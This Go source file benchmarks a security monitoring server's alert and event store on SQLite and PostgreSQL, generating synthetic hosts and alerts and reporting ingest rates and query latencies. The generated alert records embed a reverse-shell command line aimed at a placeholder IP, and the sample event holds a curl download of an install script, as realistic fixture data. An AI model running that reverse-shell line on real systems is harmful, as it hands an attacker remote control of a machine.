// Command store measures the server store: event ingest rate in realistic
// batches, bulk alert ingest, and p50/p95/p99 latency of the console's list
// queries over a generated fleet (10k hosts, 1M alerts by default), on
// SQLite and PostgreSQL. Results print as one JSON line each.
//
//	go run ./bench/store                       # both backends, defaults
//	go run ./bench/store -backend sqlite -alerts 200000
//	go run ./bench/store -backend postgres -dsn postgres://…   # else a private cluster (fsync on)
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"sync"
	"time"

	"github.com/vigilsec/vigil/internal/alert"
	"github.com/vigilsec/vigil/internal/server/store"
	"github.com/vigilsec/vigil/internal/server/store/pgtest"
	"github.com/vigilsec/vigil/internal/server/store/postgres"
	"github.com/vigilsec/vigil/internal/server/store/sqlite"
	"github.com/vigilsec/vigil/internal/severity"
)

type config struct {
	backend       string
	dir, dsn      string
	hosts, alerts int
	events, batch int
	writers       int
	queries       int
	skipLoad      bool
}

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "store bench:", err)
		os.Exit(1)
	}
}

func run() error {
	var c config
	flag.StringVar(&c.backend, "backend", "both", "sqlite, postgres or both")
	flag.StringVar(&c.dir, "dir", "", "SQLite data directory (default: a temporary one, removed after)")
	flag.StringVar(&c.dsn, "dsn", "", "PostgreSQL DSN of an empty database (default: a private cluster, fsync on)")
	flag.IntVar(&c.hosts, "hosts", 10000, "hosts to generate")
	flag.IntVar(&c.alerts, "alerts", 1000000, "alerts to generate")
	flag.IntVar(&c.events, "events", 200000, "events to ingest for the rate")
	flag.IntVar(&c.batch, "batch", 500, "events per ingest batch")
	flag.IntVar(&c.writers, "writers", 4, "concurrent ingesters (the agent links)")
	flag.IntVar(&c.queries, "queries", 100, "runs per query")
	flag.BoolVar(&c.skipLoad, "skip-load", false, "measure queries only, on the data already in -dir or -dsn (same -hosts and -alerts)")
	flag.Parse()
	if c.hosts < 1 || c.alerts < 0 || c.events < 0 || c.batch < 1 || c.writers < 1 || c.queries < 1 {
		return errors.New("counts must be positive")
	}
	ctx := context.Background()
	if c.backend == "sqlite" || c.backend == "both" {
		dir := c.dir
		if dir == "" {
			d, err := os.MkdirTemp("", "vigil-store-bench-")
			if err != nil {
				return err
			}
			defer os.RemoveAll(d)
			dir = d
		}
		s, err := sqlite.OpenDir(ctx, dir)
		if err != nil {
			return err
		}
		err = bench(ctx, "sqlite", s, c)
		s.Close()
		if fi, statErr := os.Stat(filepath.Join(dir, sqlite.FileName)); statErr == nil {
			emit(map[string]any{"backend": "sqlite", "metric": "file_size_mb", "value": fi.Size() >> 20})
		}
		if err != nil {
			return err
		}
	}
	if c.backend == "postgres" || c.backend == "both" {
		dsn := c.dsn
		if dsn == "" {
			cl, err := pgtest.Start(ctx, pgtest.Options{Fsync: true})
			if err != nil {
				return err
			}
			defer cl.Stop()
			d, _, err := cl.NewDatabase(ctx)
			if err != nil {
				return err
			}
			dsn = d
		}
		s, err := postgres.Open(ctx, dsn)
		if err != nil {
			return err
		}
		defer s.Close()
		if err := bench(ctx, "postgres", s, c); err != nil {
			return err
		}
	}
	return nil
}

func emit(v map[string]any) {
	b, _ := json.Marshal(v)
	fmt.Println(string(b))
}

var (
	rules   = []string{"reverse_shell", "cron_persistence", "crypto_miner", "ssh_brute_force", "webshell_exec", "suspicious_download", "privilege_escalation", "container_escape"}
	tactics = []string{"TA0001", "TA0002", "TA0003", "TA0004", "TA0005", "TA0006", "TA0007", "TA0008", "TA0011", "TA0040"}
	base    = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
)

func bench(ctx context.Context, backend string, s store.Store, c config) error {
	rng := rand.New(rand.NewPCG(1, 2))
	hostID := func(i int) string { return fmt.Sprintf("host-%05d", i) }

	if !c.skipLoad {
		if err := load(ctx, backend, s, c, rng, hostID); err != nil {
			return err
		}
	}
	return measure(ctx, backend, s, c, rng, hostID)
}

func load(ctx context.Context, backend string, s store.Store, c config, rng *rand.Rand, hostID func(int) string) error {
	start := time.Now()
	for i := range c.hosts {
		h := store.Host{ID: hostID(i), Hostname: fmt.Sprintf("node-%05d.dc%d.example", i, i%3), OS: "Debian 12", AgentVersion: "1.0.0",
			SensorMode: "ebpf", CertSerial: fmt.Sprint(i), CertSHA256: fmt.Sprintf("%064x", i), EnrolledAt: base,
			LastSeen: base.Add(time.Duration(rng.IntN(30*24*3600)) * time.Second),
			Labels:   []string{[]string{"env=prod", "env=staging", "env=dev"}[i%3], fmt.Sprintf("team=t%d", i%17)},
			Groups:   []string{fmt.Sprintf("g%02d", i%20)}}
		if err := s.UpsertHost(ctx, h); err != nil {
			return err
		}
	}
	emit(map[string]any{"backend": backend, "metric": "hosts_upsert_per_s", "n": c.hosts, "value": rate(c.hosts, time.Since(start))})

	// Events: writers ingest batches for their own hosts concurrently.
	if c.events > 0 {
		data := json.RawMessage(`{"kind":"exec","proc":{"pid":4242,"exec_id":"b1f0:1234:4242","exe":"/usr/bin/curl","cmdline":"curl -s https://example.com/install.sh","user":"www-data","uid":33,"ancestors":[{"pid":1,"exe":"/sbin/init"},{"pid":812,"exe":"/usr/sbin/nginx"}]},"container":null}`)
		start = time.Now()
		per := c.events / c.writers
		var wg sync.WaitGroup
		errs := make(chan error, c.writers)
		for w := range c.writers {
			wg.Go(func() {
				batch := make([]store.Event, c.batch)
				for done := 0; done < per; done += c.batch {
					n := min(c.batch, per-done)
					for i := range n {
						seq := done + i
						batch[i] = store.Event{ID: fmt.Sprintf("boot-%d:%d", w, seq), Time: base.Add(time.Duration(seq) * time.Millisecond), Kind: "exec", Data: data}
					}
					if _, err := s.IngestEvents(ctx, hostID(w), batch[:n]); err != nil {
						errs <- err
						return
					}
				}
			})
		}
		wg.Wait()
		close(errs)
		if err := <-errs; err != nil {
			return err
		}
		emit(map[string]any{"backend": backend, "metric": "events_ingest_per_s", "n": per * c.writers, "batch": c.batch, "writers": c.writers, "value": rate(per*c.writers, time.Since(start))})
	}

	// Alerts in bulk, in agent-sized batches of 1000 from one host each.
	const span = 30 * 24 * time.Hour
	start = time.Now()
	const ab = 1000
	batch := make([]alert.Alert, 0, ab)
	for i := 0; i < c.alerts; i += ab {
		batch = batch[:0]
		h := hostID(rng.IntN(c.hosts))
		for j := i; j < min(i+ab, c.alerts); j++ {
			r := rng.IntN(len(rules))
			// Alerts arrive roughly in time order, spread over 30 days.
			t := base.Add(span/time.Duration(c.alerts)*time.Duration(j) + time.Duration(rng.Int64N(int64(time.Minute))))
			batch = append(batch, alert.Alert{ID: fmt.Sprintf("%032x", j), Time: t,
				Rule:     alert.Rule{ID: rules[r], Version: 1, Title: "Detected " + rules[r] + " activity"},
				Severity: severity.Level(1 + rng.IntN(5)), Attack: alert.Attack{Tactics: []string{tactics[r%len(tactics)], tactics[rng.IntN(len(tactics))]}, Techniques: []string{"T1059.004"}},
				Process:  &alert.Process{PID: rng.IntN(1 << 20), Exe: "/usr/bin/bash", Cmdline: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", User: "www-data"},
				Evidence: map[string]any{"remote": "203.0.113.7:4444"}, Response: alert.Response{Action: "none", Result: "ok"}, Count: 1})
		}
		if _, err := s.IngestAlerts(ctx, h, batch); err != nil {
			return err
		}
	}
	if c.alerts > 0 {
		emit(map[string]any{"backend": backend, "metric": "alerts_ingest_per_s", "n": c.alerts, "batch": ab, "value": rate(c.alerts, time.Since(start))})
	}
	// Workflow state on 10% of alerts: status filters then select something.
	for i := 0; i < c.alerts/10 && i < 20000; i++ {
		id := fmt.Sprintf("%032x", rng.IntN(c.alerts))
		r, err := s.GetAlert(ctx, id)
		if err != nil {
			return err
		}
		if _, err := s.UpdateAlert(ctx, store.AlertUpdate{ID: id, Version: r.Version, Status: store.StatusHandled, Assignee: "alice", At: time.Now(), Actor: "bench"}); err != nil && !errors.Is(err, store.ErrConflict) {
			return err
		}
	}

	return nil
}

func measure(ctx context.Context, backend string, s store.Store, c config, rng *rand.Rand, hostID func(int) string) error {
	// A cursor about 50 pages deep for the keyset query.
	deepCursor := ""
	for range 50 {
		_, next, err := s.ListAlerts(ctx, store.AlertFilter{Page: store.Page{Limit: 100, Cursor: deepCursor}})
		if err != nil {
			return err
		}
		deepCursor = next
	}
	queries := []struct {
		name string
		fn   func() error
	}{
		{"alerts_first_page", func() error {
			_, _, err := s.ListAlerts(ctx, store.AlertFilter{Page: store.Page{Limit: 50}})
			return err
		}},
		{"alerts_first_page_severity_status", func() error {
			_, _, err := s.ListAlerts(ctx, store.AlertFilter{Severity: severity.High, Status: store.StatusOpen, Page: store.Page{Limit: 50}})
			return err
		}},
		{"alerts_first_page_host", func() error {
			_, _, err := s.ListAlerts(ctx, store.AlertFilter{HostID: hostID(rng.IntN(c.hosts)), Page: store.Page{Limit: 50}})
			return err
		}},
		{"alerts_first_page_tactic_week", func() error {
			_, _, err := s.ListAlerts(ctx, store.AlertFilter{Tactic: "TA0040", Since: base.Add(7 * 24 * time.Hour), Until: base.Add(14 * 24 * time.Hour), Page: store.Page{Limit: 50}})
			return err
		}},
		{"alerts_first_page_rule_text", func() error {
			_, _, err := s.ListAlerts(ctx, store.AlertFilter{Text: "miner", Page: store.Page{Limit: 50}})
			return err
		}},
		{"alerts_deep_page_keyset_5000", func() error {
			_, _, err := s.ListAlerts(ctx, store.AlertFilter{Page: store.Page{Limit: 100, Cursor: deepCursor}})
			return err
		}},
		{"alerts_deep_page_offset_5000", func() error {
			_, _, err := s.ListAlerts(ctx, store.AlertFilter{Page: store.Page{Limit: 100, Offset: 5000}})
			return err
		}},
		{"alerts_deep_page_offset_5000_severity", func() error {
			_, _, err := s.ListAlerts(ctx, store.AlertFilter{Severity: severity.Critical, Page: store.Page{Limit: 100, Offset: 5000}})
			return err
		}},
		{"alerts_count_severity_status", func() error {
			_, err := s.CountAlerts(ctx, store.AlertFilter{Severity: severity.High, Status: store.StatusOpen})
			return err
		}},
		{"alerts_count_severity_status_capped_10000", func() error {
			_, err := s.CountAlerts(ctx, store.AlertFilter{Severity: severity.High, Status: store.StatusOpen, Page: store.Page{Limit: 10000}})
			return err
		}},
		{"alerts_stats_last_day", func() error {
			_, err := s.AlertStats(ctx, store.AlertFilter{Since: base.Add(29 * 24 * time.Hour)})
			return err
		}},
		{"hosts_first_page", func() error {
			_, _, err := s.ListHosts(ctx, store.HostFilter{Page: store.Page{Limit: 50}})
			return err
		}},
		{"hosts_first_page_seen_label", func() error {
			_, _, err := s.ListHosts(ctx, store.HostFilter{Sort: store.SortLastSeen, Label: "env=prod", SeenSince: base.Add(25 * 24 * time.Hour), Page: store.Page{Limit: 50}})
			return err
		}},
		{"hosts_name_substring", func() error {
			_, _, err := s.ListHosts(ctx, store.HostFilter{Name: "dc1", Group: "g07", Page: store.Page{Limit: 50}})
			return err
		}},
		{"hosts_deep_page_offset_5000", func() error {
			_, _, err := s.ListHosts(ctx, store.HostFilter{Page: store.Page{Limit: 50, Offset: 5000}})
			return err
		}},
		{"hosts_count", func() error {
			_, err := s.CountHosts(ctx, store.HostFilter{Label: "env=prod"})
			return err
		}},
	}
	for _, q := range queries {
		if err := q.fn(); err != nil { // warm up
			return fmt.Errorf("%s: %w", q.name, err)
		}
		lat := make([]time.Duration, c.queries)
		for i := range lat {
			t := time.Now()
			if err := q.fn(); err != nil {
				return fmt.Errorf("%s: %w", q.name, err)
			}
			lat[i] = time.Since(t)
		}
		slices.Sort(lat)
		emit(map[string]any{"backend": backend, "metric": q.name, "hosts": c.hosts, "alerts": c.alerts,
			"p50_ms": ms(lat[len(lat)/2]), "p95_ms": ms(lat[len(lat)*95/100]), "p99_ms": ms(lat[len(lat)*99/100])})
	}
	return nil
}

func rate(n int, d time.Duration) int { return int(float64(n) / d.Seconds()) }

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }
